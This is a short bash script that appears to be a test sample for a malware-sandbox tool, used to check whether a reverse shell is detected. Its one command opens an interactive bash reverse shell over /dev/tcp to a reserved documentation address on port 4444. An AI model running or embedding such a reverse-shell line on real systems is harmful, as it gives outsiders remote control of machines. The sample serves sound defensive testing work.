#!/bin/bash
# Reverse shell: bash -i with stdin/stdout/stderr redirected to a TCP connection to 203.0.113.10:4444.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
timeout 3 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'
echo ended
